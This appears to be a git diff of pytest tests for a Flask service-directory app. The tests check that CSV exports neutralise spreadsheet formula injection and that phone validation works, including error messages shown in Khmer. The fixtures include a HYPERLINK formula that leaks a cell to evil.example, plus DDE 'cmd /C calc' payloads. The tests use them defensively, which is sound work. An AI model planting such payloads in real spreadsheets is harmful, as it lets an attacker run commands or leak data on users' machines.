@@ -6,15 +6,19 @@ from __future__ import annotations
 import csv
 import io
 import json
+from pathlib import Path
 
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
+from markupsafe import escape
 from sqlalchemy import func, select
 
+from bot.catalogs import translations
+from bot.types import Locale
 from models.directory import Service
 from webhooks.database import get_db
-from webhooks.outreach import cells
+from models import spreadsheet as cells
 from tests.webhooks.outreach.helpers import ADMIN, login, make_user, post
 from tests.webhooks.outreach.test_directory import CSV_HEADER, VALID_ROW, upload
 
@@ -23,6 +27,7 @@ LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 HOSTILE = {"name_en": LINK, "name_km": "+cmd|' /C calc'!A0", "address_en": "-2+3",
            "address_km": "@SUM(1+1)*cmd|' /C calc'!A0", "phone": "=1+2"}
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+KM = translations(Locale.KM)
 
 
 def admin_client(app: Flask) -> FlaskClient:
@@ -161,3 +166,65 @@ def test_the_service_form_checks_the_phone(app: Flask) -> None:
     edited = post(client, f"/outreach/directory/{service_id}", {**VALID_ROW, "phone": "-1+1"},
                   page=f"/outreach/directory/{service_id}")
     assert edited.status_code == 400 and services(app)[0].phone == "+855 (0)23 880-111"
+
+
+def test_the_phone_rule_is_shown_in_khmer(app: Flask) -> None:
+    client = admin_client(app)
+    post(client, "/outreach/language", {"locale": "km"}, page="/outreach/directory")
+    rule = escape(KM.gettext(cells.PHONE_RULE) % {"phone": repr("=1+2")})
+    form = post(client, "/outreach/directory/new", {**VALID_ROW, "phone": "=1+2"},
+                page="/outreach/directory/new")
+    assert form.status_code == 400 and rule in form.get_data(as_text=True)
+    imported = upload(client, CSV_HEADER + "methadone,ខ,Formula,12,1201,=1+2,\n")
+    assert imported.status_code == 400 and rule in imported.get_data(as_text=True)
+
+
+# --- the command line: the same rules ---------------------------------------------------------------
+def flask_cli(app: Flask, *args: str) -> tuple[int, str, str]:
+    result = app.test_cli_runner().invoke(args=list(args))
+    return result.exit_code, result.stdout, result.stderr
+
+
+def test_flask_directory_export_neutralises_formulas_and_imports_back(
+    app: Flask, tmp_path: Path
+) -> None:
+    add_service(app, **HOSTILE | {"phone": "+855 23 123 456"})
+    add_service(app, address_en="Street 1\r=SUM(1+1)*cmd|' /C calc'!A0")
+    before = [(s.name_en, s.name_km, s.address_en, s.address_km, s.phone) for s in services(app)]
+    code, out, err = flask_cli(app, "directory", "export")
+    assert code == 0, err
+    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert len(rows) == 2 and all(len(row) == len(header) for row in rows)  # the CR kept inside
+    for row in rows:
+        for value in row:
+            assert not value.startswith(TRIGGERS), value
+    assert dict(zip(header, rows[0]))["name_en"] == "'" + LINK
+    exported = tmp_path / "directory.csv"
+    exported.write_text(out, encoding="utf-8", newline="")
+    code, _, err = flask_cli(app, "directory", "import", "--replace", str(exported))
+    assert code == 0, err
+    assert [(s.name_en, s.name_km, s.address_en, s.address_km, s.phone)
+            for s in services(app)] == before
+
+
+def test_flask_directory_import_checks_phones(app: Flask, tmp_path: Path) -> None:
+    bad = tmp_path / "bad.csv"
+    bad.write_text(CSV_HEADER + "methadone,ក,Good,12,1201,012 345 678,\n"
+                   + "methadone,ខ,Formula,12,1201,=1+2,\n", encoding="utf-8")
+    code, _, err = flask_cli(app, "directory", "import", str(bad))
+    assert code == 1
+    assert "line 3: phone '=1+2' is not a phone number" in err and "line 2" not in err
+    assert not services(app)
+
+
+def test_flask_demand_export_is_written_by_the_spreadsheet_writer(
+    app: Flask, tmp_path: Path
+) -> None:
+    """One CSV writer for every file that leaves Sangkhim: CRLF rows, formula cells quoted."""
+    target = tmp_path / "demand.csv"
+    code, _, err = flask_cli(app, "demand", "export", "--from", "2025-09-01", "--to", "2025-09-07",
+                             "-o", str(target))
+    assert code == 0, err
+    written = target.read_bytes()
+    assert written.startswith(b"period,") and written.endswith(b"\r\n")
+    assert b"\n" not in written.replace(b"\r\n", b"")
